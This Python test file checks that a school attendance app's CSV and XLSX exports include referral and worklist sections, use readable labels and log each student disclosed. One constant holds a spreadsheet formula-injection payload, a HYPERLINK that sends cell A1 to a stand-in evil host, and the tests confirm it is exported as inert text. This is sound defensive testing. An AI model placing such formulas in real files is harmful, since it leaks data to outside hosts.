"""A list's file carries what its page shows beside the list: the unassigned
queue's referrals waiting for nobody, a school's referrals on the front
office's page, why nothing is due for a student of the worklist. Each follows the list's rows in the CSV (after an empty line:
its title, its header, its rows) and is a sheet of its own in the XLSX, with
the page's words (reason and status labels, not codes), no cell that runs
as a formula, and each student named logged once as disclosed."""
import csv
import datetime
import io

import openpyxl
import pytest
import time_machine

from fieldapp import codes
from fieldapp.cases import desk_records
from fieldapp.models import AccessLog
from tests import factories
from tests.web.conftest import page_text
from tests.web.test_export_rows import NOW
from tests.web.test_jobs import job_id_of, wait_for
from tests.web.test_worklist_pages import mark

HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def referred(world):
    """A school with no officer and a student of it referred by its front
    office (the referral waits for nobody); a student of school A referred,
    then declined by the officer."""
    nobody = factories.gen_school("Washington High")
    desk = factories.gen_user("front_office", [nobody], name="Dee Desk")
    waiting_kid = factories.gen_student(nobody, first="Lu", last="+Waiting")
    waiting = desk_records.refer(desk, waiting_kid, {"reason": "transportation", "note": HOSTILE_NOTE})
    assert waiting.officer_id is None
    answered_kid = factories.gen_student(world["school_a"], first="Ana", last="Answered")
    answered = desk_records.refer(world["front"], answered_kid, {"reason": "illness", "note": "Coughing"})
    desk_records.decline(world["officer"], answered, {"answer": "-Seen at home, she is well"})
    return dict(world, waiting=waiting, waiting_kid=waiting_kid, answered=answered, answered_kid=answered_kid)


def _sections(answer):
    """The CSV's list and its sections: {title (the list: None): [header, rows...]}."""
    assert answer.status_code == 200, page_text(answer)[:500]
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    parts, title, lines = {}, None, []
    for i, row in enumerate(rows):
        if not row:
            parts[title], title, lines = lines, rows[i + 1][0], []
        elif not (title is not None and row == [title] and not lines):
            lines.append(row)
    parts[title] = lines
    return parts


def _exported(user, student):
    return AccessLog.select().where((AccessLog.action == "export") & (AccessLog.user == user.id)
                                    & (AccessLog.student == student.id)).count()


def _sheet(auth, export, title):
    job = wait_for(auth.client, job_id_of(auth.post(export, data={"format": "xlsx"})))
    assert job.state == "done", job.reason
    book = openpyxl.load_workbook(io.BytesIO(auth.client.get(f"/jobs/{job.id}/spreadsheet").get_data()))
    assert book.sheetnames[1:] == [title]
    return list(book[title].iter_rows())


def test_the_unassigned_queues_file_carries_the_referrals_waiting_for_nobody(auth, login_as, referred,
                                                                              start_worker):
    start_worker("sqlite")
    supervisor = login_as("supervisor")
    page = page_text(auth.client.get("/supervisor/unassigned"))
    assert "Referred by the front office" in page and "+Waiting, Lu" in page and "Transportation" in page
    parts = _sections(auth.post("/supervisor/export/unassigned", data={"format": "csv"}))
    header, *rows = parts["Referred by the front office"]
    assert header == ["Referral", "Local id", "SIS id", "Last name", "First name", "School", "Referred",
                      "Time zone", "Referred by", "Reason", "What the officer should know"]
    line = dict(zip(header, rows[0]))
    assert len(rows) == 1
    assert (line["Last name"], line["School"], line["Referred by"], line["Reason"]) == (
        "'+Waiting", "Washington High", "Dee Desk", "Transportation")
    assert line["What the officer should know"] == "'" + HOSTILE_NOTE  # read as text, never run
    assert _exported(supervisor, referred["waiting_kid"]) == 1
    cells = _sheet(auth, "/supervisor/export/unassigned", "Referred by the front office")
    assert [c.value for c in cells[0]] == header
    by_title = dict(zip(header, cells[1]))
    assert by_title["What the officer should know"].value == HOSTILE_NOTE
    assert by_title["What the officer should know"].quotePrefix and by_title["Last name"].quotePrefix
    assert _exported(supervisor, referred["waiting_kid"]) == 2  # the spreadsheet: once more


def test_the_school_list_file_carries_the_schools_referrals_with_their_answers(auth, login_as, referred):
    front = login_as("front_office")
    page = page_text(auth.client.get("/office"))
    assert "Referrals to the attendance officer" in page and "Answered, Ana" in page
    parts = _sections(auth.post("/office/export", data={"format": "csv"}))
    header, *rows = parts["Referrals to the attendance officer"]
    line = dict(zip(header, rows[0]))
    assert [r[header.index("Last name")] for r in rows] == ["Answered"]  # of its own school alone
    assert (line["Status"], line["Answered by"], line["Answer"]) == (
        "Declined", referred["officer"].name, "'-Seen at home, she is well")
    assert line["Answered"] and line["Referred"]
    assert _exported(front, referred["answered_kid"]) == 1
    # A referral nobody holds says so, as the front office's page does.
    login_as(factories.gen_user("front_office", [referred["waiting_kid"].school], name="Wes Desk"))
    queued = dict(zip(*_sections(auth.post("/office/export", data={"format": "csv"}))[
        "Referrals to the attendance officer"][:2]))
    assert queued["Status"] == codes.label("referral_status", "queued")
    assert queued["Status"] in page_text(auth.client.get("/office"))
    assert _exported(front, referred["waiting_kid"]) == 0


def test_a_list_with_nothing_beside_it_is_the_list_alone(auth, login_as, world):
    login_as("supervisor")
    assert list(_sections(auth.post("/supervisor/export/unassigned", data={"format": "csv"}))) == [None]


def test_the_worklists_file_says_why_nothing_is_due_as_its_page_does(auth, login_as, world):
    """The section "Nothing due, and why" lists under each student why; the
    file gave the section's name and left out the why."""
    student = world["student_a"]
    with time_machine.travel(NOW, tick=False):
        mark(student, datetime.date(2025, 9, 3), datetime.date(2025, 9, 10))
        mark(student, datetime.date(2025, 9, 17), category="excused_tardy", minutes=60)
        mark(student, datetime.date(2025, 9, 20))  # a Saturday
        login_as("supervisor")
        page = page_text(auth.client.get("/worklist"))
        assert "Nothing due, and why" in page and "excused part of a day" in page
        rows = _sections(auth.post("/supervisor/export/worklist", data={"format": "csv"}))[None]
    line = next(dict(zip(rows[0], row)) for row in rows[1:] if row[0] == student.local_id)
    assert line["Section"] == "Nothing due, and why"
    assert "excused part of a day" in line["Why nothing due"]
    assert "mark on a day without school" in line["Why nothing due"]
    assert all(not dict(zip(rows[0], row))["Why nothing due"] for row in rows[1:]
               if dict(zip(rows[0], row))["Section"] != "Nothing due, and why")
